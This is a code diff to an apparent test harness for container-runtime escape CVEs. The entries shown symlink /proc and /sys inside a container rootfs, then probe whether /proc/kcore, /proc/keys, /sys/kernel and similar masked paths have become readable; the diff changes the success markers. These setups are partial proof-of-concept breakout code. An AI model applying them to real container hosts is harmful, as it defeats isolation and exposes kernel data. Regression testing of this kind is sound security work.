@@ -83,8 +83,8 @@ export const STARTING: readonly Attack[] = [
       await Deno.mkdir(`${rootfs}/vol/p`, { recursive: true });
       await link("vol/p", `${rootfs}/proc`);
     },
-    order: () => ({ args: sh("[ -L /proc ] && [ -e /vol/p/self/status ] && echo led") }),
-    succeeded: (_, { output }) => output.includes("led"),
+    order: () => ({ args: sh("[ -L /proc ] && [ -e /vol/p/self/status ] && echo LED") }),
+    succeeded: (_, { output }) => output.includes("LED"),
   },
   {
     id: "CVE-2023-27561",
@@ -99,10 +99,10 @@ export const STARTING: readonly Attack[] = [
       await link("vol/s", `${rootfs}/sys`);
     },
     order: ({ room }) => ({
-      args: sh("[ -L /proc ] && [ -e /proc/self ] && echo led; [ -L /sys ] && [ -d /sys/kernel ] && echo led"),
+      args: sh("[ -L /proc ] && [ -e /proc/self ] && echo LED; [ -L /sys ] && [ -d /sys/kernel ] && echo LED"),
       volumes: [{ source: `${room}/shared`, target: "/vol" }],
     }),
-    succeeded: (_, { output }) => output.includes("led"),
+    succeeded: (_, { output }) => output.includes("LED"),
   },
   {
     id: "CVE-2021-30465",
@@ -164,10 +164,10 @@ export const STARTING: readonly Attack[] = [
       }
     },
     order: ({ room }) => {
-      const args = sh("for f in kcore keys timer_list; do head -c 5 /proc/$f; done; ls -l /proc/kcore");
+      const args = sh('for f in kcore keys timer_list; do [ "$(head -c 5 /proc/$f)" = Linux ] && echo LED; done');
       return [{ args }, { args, volumes: [{ source: `${room}/devices`, target: "/dev" }] }];
     },
-    succeeded: (_, { output }) => output.includes("Linux"),
+    succeeded: (_, { output }) => output.includes("LED"),
   },
   {
     id: "CVE-2025-52565",
